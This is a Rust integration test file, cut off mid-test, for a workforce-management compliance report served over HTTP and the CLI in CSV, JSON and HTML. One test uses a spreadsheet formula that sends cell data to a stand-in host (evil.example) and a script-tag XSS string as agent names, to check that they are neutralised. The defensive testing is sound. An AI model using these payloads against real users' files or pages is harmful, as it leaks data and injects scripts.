//! The compliance report over HTTP and from the CLI, after real transitions; agents
//! named from the platform's list, and the HTML page in a browser at 1366 px.

use std::collections::HashMap;

use chrono::{Duration, DurationRound, SecondsFormat, Utc};
use serde_json::Value;
use wfmd::domain::adherence::Shift;
use wfmd::domain::{AgentState, Origin};
use wfmd::sim::SimAgent;
use wfmd::store::history::{self, NewInterval};
use wfmd::store::schedules::{self, BreakSource, StoredShift};

use crate::helpers::{Dialect, TestApp, TestSim, on_both_dialects, wfmd};
use crate::wallboard::Chromedriver;

fn instant(at: chrono::DateTime<Utc>) -> String {
    at.to_rfc3339_opts(SecondsFormat::Millis, true)
}

/// The `Content-Disposition` of a download of `[from, to)`: the instants in UTC to the
/// second.
pub fn attachment(stem: &str, from: &str, to: &str, extension: &str) -> String {
    let stamp = |at: &str| {
        chrono::DateTime::parse_from_rfc3339(at)
            .unwrap()
            .format("%Y%m%dT%H%M%SZ")
            .to_string()
    };
    format!(
        "attachment; filename=\"{stem}-{}-{}.{extension}\"",
        stamp(from),
        stamp(to)
    )
}

/// Changes each of `agents` (free ones) to PAUSED, or IDLE if already paused.
async fn change_each(app: &TestApp, agents: &[SimAgent]) {
    for agent in agents {
        let target = if agent.state == "PAUSED" {
            "IDLE"
        } else {
            "PAUSED"
        };
        let (status, body) = app.set_state(&agent.id, target).await;
        assert_eq!(status, 200, "{body}");
    }
}

/// The address of the HTML report of the hour before now to the hour after.
fn html_of_the_last_hour(app: &TestApp) -> String {
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now() + Duration::hours(1));
    format!(
        "{}/v1/reports/compliance?from={}&to={}&format=html",
        app.address,
        from.replace('+', "%2B"),
        to.replace('+', "%2B")
    )
}

/// One accepted change and one rejected (off shift) change; returns their agents.
async fn two_transitions(app: &TestApp) -> (String, String) {
    let free = app.sim.free_agents().remove(0);
    change_each(app, std::slice::from_ref(&free)).await;
    let off = app.sim.off_shift_agent();
    let (status, body) = app.set_state(&off.id, "READY").await;
    assert_eq!(status, 409, "{body}");
    (free.id, off.id)
}

async fn fetch(app: &TestApp, params: &[(&str, &str)]) -> reqwest::Response {
    app.http
        .get(format!("{}/v1/reports/compliance", app.address))
        .query(params)
        .send()
        .await
        .unwrap()
}

on_both_dialects!(the_report_counts_real_transitions_in_all_three_formats);
async fn the_report_counts_real_transitions_in_all_three_formats(dialect: Dialect) {
    let app = TestApp::spawn_on(dialect).await;
    let (accepted, rejected) = two_transitions(&app).await;
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now() + Duration::hours(1));

    let response = fetch(&app, &[("from", &from), ("to", &to)]).await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    assert_eq!(
        response.headers()["content-disposition"],
        attachment("compliance", &from, &to, "csv").as_str()
    );
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let field = |agent: &str, name: &str| {
        let row = rows.iter().find(|r| &r[0] == agent).unwrap();
        row[headers.iter().position(|h| h == name).unwrap()].to_owned()
    };
    assert_eq!(rows.len(), 2, "{text}");
    assert_eq!(field(&accepted, "transitions"), "1");
    assert_eq!(field(&accepted, "succeeded"), "1");
    assert_eq!(field(&accepted, "rejections"), "0");
    assert_eq!(field(&rejected, "rejections"), "1");
    assert_eq!(field(&rejected, "rejections_agent_not_scheduled"), "1");
    assert_eq!(field(&rejected, "violation_frequency"), "1");
    assert!(!field(&rejected, "latency_p95_ms").is_empty());
    assert_eq!(field(&accepted, "adherence_pct"), "");

    let response = fetch(&app, &[("from", &from), ("to", &to), ("format", "json")]).await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "application/json");
    assert_eq!(
        response.headers()["content-disposition"],
        attachment("compliance", &from, &to, "json").as_str()
    );
    let json: Value = response.json().await.unwrap();
    assert_eq!(json["agents"].as_array().unwrap().len(), 2);
    let attempts = json["attempts"].as_array().unwrap();
    assert_eq!(attempts.len(), 2);
    assert!(
        attempts
            .iter()
            .any(|a| a["agent_id"] == rejected.as_str() && a["violation"] == "AGENT_NOT_SCHEDULED")
    );

    let response = fetch(
        &app,
        &[
            ("from", &from),
            ("to", &to),
            ("format", "html"),
            ("tz", "Europe/Berlin"),
        ],
    )
    .await;
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/html; charset=utf-8"
    );
    assert!(
        !response.headers().contains_key("content-disposition"),
        "the page opens in the browser"
    );
    let html = response.text().await.unwrap();
    assert!(html.contains("<svg"));
    assert_eq!(html.matches("<g class=\"agent\">").count(), 2);
    assert!(html.contains(&accepted));
    assert!(
        html.contains("+01:00") || html.contains("+02:00"),
        "times in Berlin time"
    );
}

#[tokio::test]
async fn bad_parameters_are_400_problems_naming_the_parameter() {
    let app = TestApp::spawn().await;
    let cases: [(&[(&str, &str)], &str); 6] = [
        (&[("from", "yesterday")], "from"),
        (&[("team", "  ")], "team"),
        (&[("from", "2026-11-20"), ("to", "2026-11-19")], "to"),
        (&[("from", "2025-01-01"), ("to", "2026-11-19")], "to"),
        (&[("format", "xml")], "format"),
        (&[("tz", "Mars/Olympus")], "tz"),
    ];
    for (params, parameter) in cases {
        let response = fetch(&app, params).await;
        assert_eq!(response.status(), 400, "{params:?}");
        assert_eq!(
            response.headers()["content-type"],
            "application/problem+json"
        );
        let problem: Value = response.json().await.unwrap();
        assert_eq!(problem["parameter"], parameter, "{problem}");
    }
}

#[tokio::test]
async fn the_cli_writes_the_report_to_the_out_file() {
    let app = TestApp::spawn().await;
    let (accepted, _) = two_transitions(&app).await;
    let env = app.sim.env(&app.db.url());
    let dir = tempfile::tempdir().unwrap();
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now() + Duration::hours(1));
    for format in ["csv", "json", "html"] {
        let path = dir.path().join(format!("report.{format}"));
        let output = tokio::task::spawn_blocking({
            let (env, from, to, path) = (env.clone(), from.clone(), to.clone(), path.clone());
            move || {
                wfmd()
                    .envs(env)
                    .args(["report", "compliance", "--from", &from, "--to", &to])
                    .args(["--format", format, "--out"])
                    .arg(&path)
                    .output()
                    .unwrap()
            }
        })
        .await
        .unwrap();
        assert!(output.status.success(), "{output:?}");
        assert!(output.stdout.is_empty(), "the report goes to the file only");
        let content = std::fs::read_to_string(&path).unwrap();
        assert!(content.contains(&accepted), "{format}: {content}");
        if format == "json" {
            let json: Value = serde_json::from_str(&content).unwrap();
            assert_eq!(json["attempts"].as_array().unwrap().len(), 2);
        }
        if format == "csv" {
            // What each column means goes beside the report, which stays plain CSV.
            let companion = dir.path().join("report.definitions.csv");
            let text = std::fs::read_to_string(&companion).expect("the definitions are written");
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            assert_eq!(
                reader.headers().unwrap().iter().collect::<Vec<_>>(),
                ["term", "label", "definition", "unit", "time_zone"]
            );
            let terms: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_owned()).collect();
            assert!(terms.iter().any(|t| t == "adherence_pct"), "{terms:?}");
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert!(stderr.contains("report.definitions.csv"), "{stderr}");
        }
    }
    let mut files: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            "report.csv",
            "report.definitions.csv",
            "report.html",
            "report.json"
        ],
        "JSON and HTML carry their definitions inside"
    );

    let output = tokio::task::spawn_blocking(move || {
        wfmd()
            .envs(env)
            .args([
                "report",
                "compliance",
                "--from",
                "2026-11-20",
                "--to",
                "2026-11-21",
            ])
            .args(["--tz", "Mars/Olympus"])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("--tz"), "{stderr}");
}

/// The names the platform may hold that a spreadsheet or a browser would run.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
const SCRIPT_NAME: &str = "<script>alert('name')</script>";

/// wfmd with the wallboard's roster refresh on (`live.enabled`, which the harness turns
/// off; it lists the agents at start), after `rename` renamed agents on the platform;
/// returns once every agent's name is stored.
pub(crate) async fn spawn_named(dialect: Dialect, rename: impl FnOnce(&TestSim)) -> TestApp {
    let sim = TestSim::default_tenant().await.on(dialect);
    rename(&sim);
    let app = TestApp::spawn_with(sim, |config| config.live.enabled = true).await;
    let agents = app.sim.sim.agents().len() as i64;
    app.wait_for_count(
        "SELECT COUNT(*) FROM agent_roster WHERE name IS NOT NULL",
        agents,
        "the platform's agent list is stored",
    )
    .await;
    app
}

/// `name` (a column or a field) of each CSV row, by agent id.
fn csv_column(text: &str, name: &str) -> HashMap<String, String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = headers.iter().position(|h| h == name).unwrap();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[column].to_owned())
        })
        .collect()
}

on_both_dialects!(the_csv_and_json_name_each_agent_and_team_as_the_platform_lists_them);
async fn the_csv_and_json_name_each_agent_and_team_as_the_platform_lists_them(dialect: Dialect) {
    let app = spawn_named(dialect, |_| {}).await;
    let (accepted, rejected) = two_transitions(&app).await;
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now() + Duration::hours(1));

    let text = fetch(&app, &[("from", &from), ("to", &to)])
        .await
        .text()
        .await
        .unwrap();
    let headers: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .headers()
        .unwrap()
        .iter()
        .map(Into::into)
        .collect();
    assert_eq!(
        headers[headers.len() - 5..],
        [
            "name",
            "team_id",
            "team",
            "neutral_seconds",
            "authorised_seconds"
        ],
        "added at the end, in the order they came: {headers:?}"
    );
    let (names, team_ids, teams) = (
        csv_column(&text, "name"),
        csv_column(&text, "team_id"),
        csv_column(&text, "team"),
    );
    let json: Value = fetch(&app, &[("from", &from), ("to", &to), ("format", "json")])
        .await
        .json()
        .await
        .unwrap();
    for id in [&accepted, &rejected] {
        let agent = app.sim.sim.agent(id).unwrap();
        assert!(!agent.name.is_empty() && !agent.team_name.is_empty());
        assert_eq!(names[id], agent.name, "{text}");
        assert_eq!(team_ids[id], agent.team_id);
        assert_eq!(teams[id], agent.team_name);
        let row = json["agents"]
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["agent_id"] == id.as_str())
            .unwrap();
        assert_eq!(row["name"], agent.name.as_str(), "{row}");
        assert_eq!(row["team_id"], agent.team_id.as_str());
        assert_eq!(row["team"], agent.team_name.as_str());
    }
}

#[tokio::test]
async fn a_formula_name_is_text_in_the_csv_and_a_script_name_is_escaped_in_the_html() {
    let mut picked = Vec::new();
    let app = spawn_named(Dialect::V2, |sim| {
        let free = sim.free_agents();
        for (agent, name) in free.iter().zip([FORMULA_NAME, SCRIPT_NAME]) {
            assert!(sim.sim.rename_agent(&agent.id, name));
            picked.push(agent.clone());
        }
    })
    .await;
    for agent in &picked {
        let target = if agent.state == "PAUSED" {
            "IDLE"
        } else {
            "PAUSED"
        };
        let (status, body) = app.set_state(&agent.id, target).await;
        assert_eq!(status, 200, "{body}");
    }
    let (formula, script) = (&picked[0].id, &picked[1].id);
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now() + Duration::hours(1));

    let text = fetch(&app, &[("from", &from), ("to", &to)])
        .await
        .text()
        .await
        .unwrap();
    let names = csv_column(&text, "name");
    assert_eq!(names[formula], format!("'{FORMULA_NAME}"), "{text}");
    assert_eq!(names[script], SCRIPT_NAME, "not a formula: as it is");

    let html = fetch(&app, &[("from", &from), ("to", &to), ("format", "html")])
        .await
        .text()
        .await
        .unwrap();
    assert!(!html.contains("<script"), "no script element: {html}");
    assert!(html.contains("<td>&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;<br>"));
    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"));
}

/// The CSV's rows without their header, by agent id.
fn csv_rows(text: &str) -> HashMap<String, Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| {
            let row: Vec<String> = r.unwrap().iter().map(Into::into).collect();
            (row[0].clone(), row)
        })
        .collect()
}

#[tokio::test]
async fn a_teams_report_holds_its_agents_only_with_the_full_reports_figures() {
    let app = spawn_named(Dialect::V2, |_| {}).await;
    let moved: Vec<SimAgent> = app.sim.free_agents().into_iter().take(12).collect();
    change_each(&app, &moved).await;
    let team = moved[0].team_id.clone();
    assert!(
        moved.iter().any(|a| a.team_id != team),
        "the changes reach more than one team"
    );
    let members: Vec<String> = app
        .sim
        .sim
        .agents()
        .into_iter()
        .filter(|a| a.team_id == team)
        .map(|a| a.id)
        .collect();
    // A window that has ended, so open intervals end with it and figures hold still.
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now());
    let window = [("from", from.as_str()), ("to", to.as_str())];
    let full_text = fetch(&app, &window).await.text().await.unwrap();
    let full = csv_rows(&full_text);
    let shouted = moved[0].team_name.to_uppercase();
    for asked in [team.as_str(), shouted.as_str()] {
        let mut params = window.to_vec();
        params.push(("team", asked));
        let text = fetch(&app, &params).await.text().await.unwrap();
        let ours = csv_rows(&text);
        assert!(ours.contains_key(&moved[0].id), "{asked}: {text}");
        for (id, row) in &ours {
            assert!(members.contains(id), "{id} is not of team {asked}");
            assert_eq!(row, &full[id], "the same figures as in the full report");
        }
        let expected = full.keys().filter(|id| members.contains(id)).count();
        assert_eq!(ours.len(), expected, "every member the full report has");
        assert!(ours.len() < full.len(), "{full_text}");

        params.push(("format", "json"));
        let json: Value = fetch(&app, &params).await.json().await.unwrap();
        assert_eq!(json["agents"].as_array().unwrap().len(), ours.len());
        let attempts = json["attempts"].as_array().unwrap();
        assert!(!attempts.is_empty());
        for attempt in attempts {
            let id = attempt["agent_id"].as_str().unwrap();
            assert!(members.iter().any(|m| m == id), "{attempt}");
        }
    }

    let mut params = window.to_vec();
    params.push(("team", "no such team"));
    let nobody = fetch(&app, &params).await.text().await.unwrap();
    assert_eq!(nobody.lines().count(), 1, "the header only: {nobody}");
}

/// Seeds what adherence is computed from, over the two hours from `t0`: `(agent, state
/// at t0, state at t0 + 1 h or none, with a shift)`. A shift spans the window without
/// breaks, so READY is in adherence and NOT_READY is not.
async fn seed_adherence(
    app: &TestApp,
    t0: chrono::DateTime<Utc>,
    agents: &[(&str, AgentState, Option<AgentState>, bool)],
) {
    let mut tx = app.store.begin_write().await.unwrap();
    for &(agent, first, then, shift) in agents {
        let changes = [(first, t0)]
            .into_iter()
            .chain(then.map(|s| (s, t0 + Duration::hours(1))));
        for (state, at) in changes {
            let next = NewInterval {
                agent_id: agent,
                state,
                reason: None,
                origin: Origin::Observed,
                at,
                attempt_id: None,
            };
            history::switch_state(&mut tx, &next).await.unwrap();
        }
        if shift {
            let stored = StoredShift {
                agent_id: agent.into(),
                shift: Shift {
                    start: t0 - Duration::hours(1),
                    end: t0 + Duration::hours(8),
                    breaks: vec![],
                    activities: vec![],
                },
                timezone: Some("Europe/Berlin".into()),
                breaks_from: BreakSource::Schedule,
                fetched_at: t0 - Duration::hours(2),
            };
            schedules::save(&mut tx, &[stored]).await.unwrap();
        }
    }
    tx.commit().await.unwrap();
}

/// The page's team sections in order: `team <heading>` for a section's heading (its
/// text up to the id), then the agent ids of its first table's rows.
fn page_order(html: &str) -> Vec<String> {
    let mut order = Vec::new();
    for section in html.split("<section class=\"team\" id=\"team-").skip(1) {
        let heading = &section[section.find("<h3>").unwrap() + 4..];
        order.push(format!(
            "team {}",
            &heading[..heading.find(" <span").unwrap()]
        ));
        let table = section.split("<table class=\"agents\">").nth(1).unwrap();
        let table = &table[..table.find("</table>").unwrap()];
        for row in table.split("<tr class=\"agent\" data-agent=\"").skip(1) {
            order.push(row[..row.find('"').unwrap()].to_owned());
        }
    }
    order
}

#[tokio::test]
async fn the_html_groups_by_team_lists_worst_adherence_first_and_titles_the_window_in_the_zone() {
    let app = spawn_named(Dialect::V2, |_| {}).await;
    let agents = app.sim.sim.agents();
    let team = &agents[0].team_id;
    let mates: Vec<&SimAgent> = agents.iter().filter(|a| &a.team_id == team).collect();
    let other = agents.iter().find(|a| &a.team_id != team).unwrap();
    let (full, half, unscheduled) = (&mates[0].id, &mates[1].id, &mates[2].id);
    let t0 = (Utc::now() - Duration::hours(3))
        .duration_trunc(Duration::hours(1))
        .unwrap();
    use AgentState::{NotReady, Ready};
    seed_adherence(
        &app,
        t0,
        &[
            (full, Ready, None, true),
            (half, NotReady, Some(Ready), true),
            (unscheduled, Ready, None, false),
            (&other.id, NotReady, None, true),
        ],
    )
    .await;
    let from = instant(t0);
    let to = instant(t0 + Duration::hours(2));

    let html = fetch(
        &app,
        &[
            ("from", &from),
            ("to", &to),
            ("format", "html"),
            ("tz", "Europe/Berlin"),
        ],
    )
    .await
    .text()
    .await
    .unwrap();
    let ours = [
        format!("team {}", mates[0].team_name),
        half.clone(),
        full.clone(),
        unscheduled.clone(),
    ];
    let theirs = [format!("team {}", other.team_name), other.id.clone()];
    let expected: Vec<String> =
        if mates[0].team_name.to_lowercase() < other.team_name.to_lowercase() {
            ours.into_iter().chain(theirs).collect()
        } else {
            theirs.into_iter().chain(ours).collect()
        };
    assert_eq!(page_order(&html), expected);
    assert!(html.contains(&format!(
        "<td>{}<br><span class=\"id\">{half}</span></td><td>50.0</td>",
        mates[1].name
    )));

    let berlin: chrono_tz::Tz = "Europe/Berlin".parse().unwrap();
    let local = |at: chrono::DateTime<Utc>| at.with_timezone(&berlin).format("%Y-%m-%d %H:%M");
    let title = format!(
        "Compliance report {} – {} (Europe/Berlin)",
        local(t0),
        local(t0 + Duration::hours(2))
    );
    assert!(html.contains(&format!("<title>{title}</title>")), "{html}");
    assert!(html.contains(&format!("<h1>{title}</h1>")));
}

#[tokio::test]
async fn the_html_report_fits_a_1366_px_screen_without_sideways_scrolling() {
    let long = "Maximiliana-Theodora-Wolkenstein-Rodenegg-von-und-zu-Hohenlohe-Schillingsfürst";
    let mut moved = Vec::new();
    let app = spawn_named(Dialect::V2, |sim| {
        moved = sim.free_agents().into_iter().take(12).collect();
        assert!(sim.sim.rename_agent(&moved[0].id, long));
    })
    .await;
    change_each(&app, &moved).await;
    let url = format!("{}&tz=Europe/Berlin", html_of_the_last_hour(&app));

    let driver = Chromedriver::start().await;
    let browser = driver.browser().await;
    browser.set_window_size(1366, 900).await.unwrap();
    browser.goto(&url).await.unwrap();
    let measured = browser
        .execute(
            "return [window.innerWidth, document.documentElement.scrollWidth,
                     document.querySelectorAll('table.agents tr.agent').length];",
            vec![],
        )
        .await
        .unwrap();
    let [inner, scroll, rows] = [0, 1, 2].map(|i| measured[i].as_u64().unwrap());
    assert!(
        (1300..=1366).contains(&inner),
        "the window is a 1366 px screen: {measured}"
    );
    assert_eq!(rows, 2 * moved.len() as u64, "the page is the report");
    assert!(
        scroll <= inner,
        "the page is {scroll} px wide in a {inner} px window"
    );
    browser.close().await.unwrap();
}

#[tokio::test]
async fn at_1366_px_the_html_reports_headers_stay_in_view_break_no_word_and_the_definitions_are_linked_on_the_first_screen()
 {
    let app = spawn_named(Dialect::V2, |_| {}).await;
    let moved: Vec<SimAgent> = app.sim.free_agents().into_iter().take(30).collect();
    change_each(&app, &moved).await;
    let url = html_of_the_last_hour(&app);

    let driver = Chromedriver::start().await;
    let browser = driver.browser().await;
    browser.set_window_size(1366, 768).await.unwrap();
    browser.goto(&url).await.unwrap();
    let first_screen = browser
        .execute(
            "const a = document.querySelector('a[href=\"#definitions\"]');
             const r = a.getBoundingClientRect();
             return [r.top >= 0 && r.bottom <= window.innerHeight,
                     !!document.getElementById('definitions'),
                     document.querySelectorAll('nav.top a[href^=\"#team-\"]').length,
                     document.querySelectorAll('section.team').length];",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(
        first_screen[0], true,
        "the definitions link is on the first screen"
    );
    assert_eq!(first_screen[1], true, "and leads somewhere");
    assert!(first_screen[2].as_u64().unwrap() >= 2, "{first_screen}");
    assert_eq!(first_screen[2], first_screen[3], "a link per team section");

    // Every header word on one line: breaks only between words, nothing cut off.
    let broken = browser
        .execute(
            "const broken = [];
             for (const th of document.querySelectorAll('table.agents th')) {
               if (th.scrollWidth > th.clientWidth) broken.push('overflows: ' + th.textContent);
               for (const node of th.childNodes) {
                 if (node.nodeType !== Node.TEXT_NODE) continue;
                 for (const m of node.textContent.matchAll(/\\S+/g)) {
                   const range = document.createRange();
                   range.setStart(node, m.index);
                   range.setEnd(node, m.index + m[0].length);
                   if (range.getClientRects().length > 1) broken.push(m[0] + ' in ' + th.textContent);
                 }
               }
             }
             return [broken, document.querySelectorAll('table.agents th').length,
                     window.innerWidth, document.documentElement.scrollWidth];",
            vec![],
        )
        .await
        .unwrap();
    assert!(broken[1].as_u64().unwrap() > 20, "{broken}");
    assert_eq!(
        broken[0],
        serde_json::json!([]),
        "header words broken: {broken}"
    );
    assert!(
        broken[3].as_u64().unwrap() <= broken[2].as_u64().unwrap(),
        "no sideways scrolling: {broken}"
    );

    // Scrolled into the longest table, its header row is still at the top.
    let sticky = browser
        .execute(
            "const tables = [...document.querySelectorAll('table.agents')];
             const t = tables.reduce((a, b) => b.offsetHeight > a.offsetHeight ? b : a);
             const head = t.tHead.getBoundingClientRect().height;
             window.scrollTo(0, t.getBoundingClientRect().top + window.scrollY + head + 20);
             const r = t.tHead.rows[0].cells[1].getBoundingClientRect();
             return [r.top, t.offsetHeight, head, window.scrollY];",
            vec![],
        )
        .await
        .unwrap();
    let top = sticky[0].as_f64().unwrap();
    assert!(
        sticky[1].as_f64().unwrap() > sticky[2].as_f64().unwrap() + 40.0,
        "{sticky}"
    );
    assert!(
        sticky[3].as_f64().unwrap() > 0.0,
        "the page scrolled: {sticky}"
    );
    assert!(top.abs() < 2.0, "the header row stays at the top: {sticky}");
    browser.close().await.unwrap();
}

/// The `describedby` target of a `Link` header: `<TARGET>; rel="describedby"`.
fn described_by(response: &reqwest::Response) -> String {
    let link = response
        .headers()
        .get(reqwest::header::LINK)
        .expect("the CSV links to its definitions")
        .to_str()
        .unwrap();
    let (target, rel) = link.split_once(';').unwrap();
    assert_eq!(rel.trim(), "rel=\"describedby\"", "{link}");
    target
        .trim()
        .strip_prefix('<')
        .and_then(|t| t.strip_suffix('>'))
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn the_csv_links_its_definitions_and_the_json_and_html_carry_the_same() {
    let sim = TestSim::default_tenant().await;
    let mut version = None;
    let app = TestApp::spawn_with(sim, |config| {
        // As `[[compliance.rules]]` would be written.
        config.compliance.rules = serde_json::from_value(serde_json::json!([{
            "activity": "Lunch",
            "states": ["READY"],
            "verdict": "out",
            "grace": "90s",
        }]))
        .unwrap();
        version = config.compliance.judging().unwrap().version;
    })
    .await;
    let version = version.expect("rules have a version");
    two_transitions(&app).await;
    let from = instant(Utc::now() - Duration::hours(1));
    let to = instant(Utc::now() + Duration::hours(1));
    let window = |format: &'static str| {
        [
            ("from", from.clone()),
            ("to", to.clone()),
            ("format", format.to_owned()),
            ("tz", "Europe/Berlin".to_owned()),
        ]
    };
    let query = |format| window(format).map(|(k, v)| (k, v));
    let get = |format: &'static str| {
        let params = query(format);
        let app = &app;
        async move {
            app.http
                .get(format!("{}/v1/reports/compliance", app.address))
                .query(&params)
                .send()
                .await
                .unwrap()
        }
    };

    let response = get("csv").await;
    assert_eq!(response.status(), 200);
    let target = response.url().join(&described_by(&response)).unwrap();
    assert_eq!(target.path(), "/v1/reports/definitions", "{target}");
    let body = response.text().await.unwrap();
    let mut report = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        &report.headers().unwrap()[0],
        "agent_id",
        "no comment line before the header"
    );
    assert_eq!(report.records().count(), 2, "{body}");

    let companion = app.http.get(target).send().await.unwrap();
    assert_eq!(companion.status(), 200);
    assert!(
        companion.headers()[reqwest::header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let companion = companion.text().await.unwrap();
    let rows: HashMap<String, (String, String, String)> =
        csv::Reader::from_reader(companion.as_bytes())
            .records()
            .map(|r| {
                let r = r.unwrap();
                (
                    r[0].to_owned(),
                    (r[2].to_owned(), r[3].to_owned(), r[4].to_owned()),
                )
            })
            .collect();

    let json: Value = get("json").await.json().await.unwrap();
    let definitions = &json["definitions"];
    assert_eq!(definitions["time_zone"], "Europe/Berlin");
    assert_eq!(definitions["adherence_rules"]["version"], version.as_str());
    assert_eq!(definitions["adherence_rules"]["rules"], 1);
    let html = get("html").await.text().await.unwrap();
    let footnotes = html
        .split("<h2>Definitions</h2>")
        .nth(1)
        .expect("the page has its footnotes");
    let terms = definitions["terms"].as_array().unwrap();
    assert!(terms.len() >= 20, "{definitions}");
    for term in terms {
        let name = term["term"].as_str().unwrap();
        let definition = term["definition"].as_str().unwrap();
        assert_eq!(
            rows.get(name),
            Some(&(
                definition.to_owned(),
                term["unit"].as_str().unwrap().to_owned(),
                "Europe/Berlin".to_owned()
            )),
            "the CSV companion defines {name} as the JSON does"
        );
        assert!(
            footnotes.contains(&*html_escape::encode_quoted_attribute(definition)),
            "the page defines {name} as the JSON does"
        );
    }
    let rules_row = &rows["adherence_rules"].0;
    assert!(
        rules_row.starts_with(&format!("1 adherence rule, version {version}")),
        "{rules_row}"
    );
    assert!(footnotes.contains(&format!("1 adherence rule, version {version}")));

    // The route's JSON is the report's definitions.
    let alone: Value = app
        .http
        .get(format!("{}/v1/reports/definitions", app.address))
        .query(&[("tz", "Europe/Berlin")])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(&alone, definitions);

    // The wallboard's: service level with the colour bands, badges judged by the rules.
    let board: Value = app
        .http
        .get(format!("{}/v1/reports/definitions", app.address))
        .query(&[("report", "wallboard")])
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(board["of"], "wallboard");
    let board_terms = board["terms"].as_array().unwrap();
    let service_level = board_terms
        .iter()
        .find(|t| t["term"] == "service_level")
        .expect("service level is defined");
    assert!(
        service_level["definition"]
            .as_str()
            .unwrap()
            .contains("green at or above 0.8, amber at or above 0.7"),
        "{service_level}"
    );
    assert_eq!(board["adherence_rules"]["version"], version.as_str());
}

#[tokio::test]
async fn an_agents_day_is_drawn_and_its_spans_add_up_to_the_reports_figures() {
    let app = TestApp::spawn_with(TestSim::default_tenant().await, |_| {}).await;
    let agents = app.sim.sim.agents();
    let (agent, unscheduled) = (&agents[0].id, &agents[1].id);
    let t0 = (Utc::now() - Duration::hours(3))
        .duration_trunc(Duration::hours(1))
        .unwrap();
    use AgentState::{NotReady, Ready};
    seed_adherence(
        &app,
        t0,
        &[
            (agent, NotReady, Some(Ready), true),
            (unscheduled, Ready, None, false),
        ],
    )
    .await;
    // A quarter of an hour of the NOT_READY hour excused.
    let response = app
        .http
        .post(format!("{}/v1/adherence/authorisations", app.address))
        .json(&serde_json::json!({
            "agents": [agent],
            "from": instant(t0 + Duration::minutes(30)),
            "to": instant(t0 + Duration::minutes(45)),
            "reason": "coaching",
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let (from, to) = (instant(t0), instant(t0 + Duration::hours(2)));
    let day = |agent: &str, params: &[(&str, &str)]| {
        let request = app
            .http
            .get(format!("{}/v1/agents/{agent}/adherence", app.address))
            .query(&[("from", from.as_str()), ("to", to.as_str())])
            .query(params);
        async move { request.send().await.unwrap() }
    };

    let response = day(agent, &[]).await;
    assert_eq!(response.status(), 200);
    let view: Value = response.json().await.unwrap();
    let spans = view["spans"].as_array().unwrap();
    let at = |v: &Value| wfmd::time::parse_instant(v.as_str().unwrap()).unwrap();
    assert_eq!(at(&spans[0]["start"]), t0, "{view}");
    assert_eq!(at(&spans[spans.len() - 1]["end"]), t0 + Duration::hours(2));
    for pair in spans.windows(2) {
        assert_eq!(pair[0]["end"], pair[1]["start"], "back to back: {view}");
    }
    let judged = |name: &str| -> Vec<(i64, i64, &str)> {
        spans
            .iter()
            .filter(|s| s["judged"] == name)
            .map(|s| {
                (
                    (at(&s["start"]) - t0).num_minutes(),
                    (at(&s["end"]) - t0).num_minutes(),
                    s["state"].as_str().unwrap(),
                )
            })
            .collect()
    };
    assert_eq!(judged("authorised"), [(30, 45, "NOT_READY")], "{view}");
    assert_eq!(judged("out"), [(0, 30, "NOT_READY"), (45, 60, "NOT_READY")]);
    assert_eq!(judged("in"), [(60, 120, "READY")]);
    assert_eq!(view["rules_version"], Value::Null);

    // The figures are the report's for the same window, to the second.
    let figures = &view["figures"];
    assert_eq!(figures["scheduled_seconds"], 7200.0);
    assert_eq!(figures["authorised_seconds"], 900.0);
    assert_eq!(figures["out_of_adherence_seconds"], 2700.0);
    let report: Value = fetch(&app, &[("from", &from), ("to", &to), ("format", "json")])
        .await
        .json()
        .await
        .unwrap();
    let row = report["agents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["agent_id"] == agent.as_str())
        .unwrap();
    for field in [
        "adherence_pct",
        "scheduled_seconds",
        "in_adherence_seconds",
        "neutral_seconds",
        "authorised_seconds",
        "unobserved_seconds",
    ] {
        assert_eq!(
            figures[field], row[field],
            "{field}: {figures} against {row}"
        );
    }
    assert_eq!(figures["exceptions"], row["adherence_exceptions"]);

    // The drawing the HTML report has, times in the zone asked for, with its legend.
    let response = day(agent, &[("format", "svg"), ("tz", "Europe/Berlin")]).await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "image/svg+xml");
